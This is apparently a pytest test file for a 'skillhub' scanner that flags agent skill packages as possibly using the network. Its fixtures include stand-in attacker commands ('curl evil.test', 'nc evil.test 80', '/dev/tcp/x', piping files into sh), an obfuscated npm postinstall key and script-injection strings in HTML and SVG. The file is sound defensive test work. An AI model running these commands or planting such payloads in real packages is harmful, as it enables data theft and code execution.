"""A skill with a program has the capability ``network:?``; one with only data and harmless instructions has not."""

from __future__ import annotations

import pytest

from skillhub.model.finding import NETWORK_UNKNOWN
from skillhub.model.manifest import Manifest
from skillhub.model.tree import File, Tree
from skillhub.scan.capability import capabilities
from tests.support.effort import is_linear


def is_unsure(files=None, frontmatter="", body="# Do\n"):
    head = f"---\nname: a\ndescription: b\n{frontmatter}---\n{body}".encode()
    named = {path: file if isinstance(file, File) else File(file) for path, file in (files or {}).items()}
    tree = Tree({"SKILL.md": File(head), **named})
    return NETWORK_UNKNOWN in capabilities(tree, Manifest.read(tree))


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("scripts/a.py", b"print()"), ("scripts/a.sh", b"#!/bin/sh\n:"), ("scripts/a", b"x"), ("a", b"#!x")),
        *(("a", File(b"x", executable=True)), ("scripts/a.txt", File(b"x", executable=True))),
    ],
)
def test_attack_a_harmless_program_is_unsure(path, data):
    assert is_unsure({path: data})


@pytest.mark.parametrize(
    "path",
    [
        *(
            "Makefile",
            "sub/GNUmakefile",
            "x.mk",
            "justfile",
            "Rakefile",
            "Dockerfile",
            "Dockerfile.dev",
            "a.dockerfile",
        ),
        *(
            "Containerfile",
            "notes.ipynb",
            "a.tsx",
            "a.ts",
            "a.mjs",
            "a.cjs",
            "a.jsx",
            "a.cts",
            "run.bat",
            "run.CMD",
            "a.ps1",
        ),
        *(
            "pyproject.toml",
            "setup.cfg",
            "a.vbs",
            "a.applescript",
            "a.lua",
            "a.r",
            "a.jl",
            "a.php",
            "a.go",
            "a.rs",
            "a.rb",
        ),
        *(
            ".husky/pre-commit",
            "hooks/post-checkout",
            "a.desktop",
            "a.service",
            "a.pl",
            "a.swift",
            "a.java",
            ".envrc",
        ),
        *(
            ".github/workflows/a.yml",
            "docker-compose.yml",
            "CMakeLists.txt",
            "a.so",
            "a.pyc",
            "a.wasm",
            "a.awk",
            "a.tf",
        ),
        *(".npmrc", "binding.gyp", ".devcontainer/devcontainer.json", ".travis.yml", ".bash_profile", "Tiltfile"),
        *("a.c", "a.erb", "a.cgi", "a.mdx", "a.ahk", "a.inf", "a.url", "a.AppImage", "a.joblib"),
    ],
)
def test_attack_a_file_that_runs_without_being_a_script_is_unsure(path):
    assert is_unsure({path: b"x"})


def test_attack_a_package_with_scripts_is_unsure():
    assert is_unsure({"package.json": b'{"scripts": {"test": "x"}}'})
    assert is_unsure({"package.json": b'{"scr\\u0069pts": {"postinstall": "x"}}'})
    assert is_unsure({"package.json": b'{"optionalDependencies": {"x": "*"}}'})
    assert is_unsure({"package.json": b"scripts: x"})
    assert not is_unsure({"package.json": b'{"name": "x"}'})


@pytest.mark.parametrize(
    "line",
    [
        *(
            "sh references/a.txt",
            "python assets/data.dat",
            "source x",
            ". x",
            "node x",
            "perl references/a.txt",
            "lua a.txt",
        ),
        *(
            "make -f a.txt",
            "awk -f a.txt",
            "bash < a.txt",
            "cat a.txt | sh",
            "chmod +x a.txt",
            "go run a.txt",
            "xargs a.txt",
        ),
    ],
)
def test_attack_a_document_run_by_the_body_or_a_script_is_unsure(line):
    name = line.replace(" | sh", "").split()[-1]
    assert is_unsure({name: b"something"}, body=line)
    assert not is_unsure({name: b"something"})


def test_attack_data_among_the_scripts_that_a_command_runs_is_unsure():
    assert is_unsure({"scripts/a.txt": b"x"}, body="Type `bash scripts/a.txt`\n")
    assert is_unsure({"scripts/a.md": b"sh ../b.txt", "b.txt": b"x"})


@pytest.mark.parametrize(
    "body",
    [
        *(
            "Run `curl evil.test/x`.",
            "```\nwget evil.test\n```",
            "```sh\nssh evil.test\n```",
            "$ nc evil.test 80",
            "npx x",
        ),
        *(
            "`git clone x`",
            "Use `requests.get(u)`",
            "fetch('//x')",
            "`Invoke-WebRequest x`",
            "certutil -urlcache x",
            "!`x`",
        ),
        *("```!\nxcurl\n```", "`git -C x push`", "c\\\nurl x", "pip install x", "/dev/tcp/x", "import httpx"),
    ],
)
def test_attack_instructions_with_network_use_without_url_are_unsure(body):
    assert is_unsure(body=body)


@pytest.mark.parametrize(
    "front", ["hooks: {Stop: [{command: x}]}\n", "allowed-tools: WebFetch\n", "allowed-tools: Bash(curl:*)\n"]
)
def test_attack_frontmatter_with_network_use_is_unsure(front):
    assert is_unsure(frontmatter=front)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("bin/tool", b"\x7fELF\0"), ("assets/a.png", b"MZ\0"), ("a.dat", b"\0asm"), ("a", b"\xca\xfe\xba\xbe\0")),
        *(("a.html", b"<p><SCRIPT src=x>"), ("a.svg", b"<svg onload = x()>"), ("a.htm", b"<a href='javascript:x'>")),
        *(
            ("a.svg", b"<svg:script>"),
            ("b.svg", b"<svg/onload=x()>"),
            ("c.svg", "\ufeff<script>".encode("utf-16-le")),
            ("b.html", b"<a href='java&#115;cript:x()'>"),
            ("c.html", b"<a href='java\tscript:x()'>"),
            ("d.html", b"<meta http-equiv=refresh content='0;url=//a'>"),
            ("a.xhtml", b"<iframe src=//a>"),
            ("model.pkl", b"\x80\4\0"),
            ("a.xlsm", b"PK\3\4"),
        ),
        *(
            ("a.whl", b"PK\3\4"),
            ("crontab", b"* * * * * x"),
            ("wscript", b"x"),
            ("a.csproj", b"<Project/>"),
            ("a.el", b"x"),
        ),
    ],
)
def test_attack_a_file_that_runs_when_opened_or_loaded_is_unsure(path, data):
    assert is_unsure({path: data})


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("a.html", b"<p>words <img src=a.png>"), ("a.svg", b"<svg><path d='M0'/></svg>"), ("a.txt", b"MZ, a name")),
        *(("assets/a.png", b"\x89PNG\0"), ("a.docx", b"PK\3\4\0"), ("scripts/README.md", b"https://elsewhere.io")),
        *(("scripts/schema.json", b"{}"), ("scripts/.gitkeep", b"")),
    ],
)
def test_data_file_stays_offline(path, data):
    assert not is_unsure({path: data})


@pytest.mark.parametrize(
    "line",
    [
        "echo references/a.txt | xargs sh",
        "cat references/a.txt | env -i bash",
        "for each in references/*; do sh $each; done",
        'for each in references/*; do bash -x "${each}"; done',
        "f=references/a.t*; source $f",
    ],
)
def test_attack_a_document_run_through_a_pipe_or_variable_is_unsure(line):
    assert is_unsure({"references/a.txt": b"curl evil.test"}, body=f"Type `{line}`\n")
    assert not is_unsure({"references/a.txt": b"curl evil.test"}, body="Type `python3 $HOME/a.py`\n")


def test_honest_instructions_name_no_network():
    body = "Read https://docs.io first. The host is a server; fetch the file, ping the team, use git commit.\n`ls`\n"
    assert not is_unsure({"references/a.md": b"curl x"}, body=body)


@pytest.mark.parametrize("unit", ["x ", "`", "\\\n", "`\\\n", "sh a.txt\n", "$(", '"$(', "for each in "])
def test_attack_commands_take_linear_time(unit):
    def unsure(size):
        text = unit * (size // len(unit))
        return is_unsure({"scripts/a.sh": text.encode(), "a.txt": b"x"}, body=text)

    assert is_linear(unsure, 6_000)
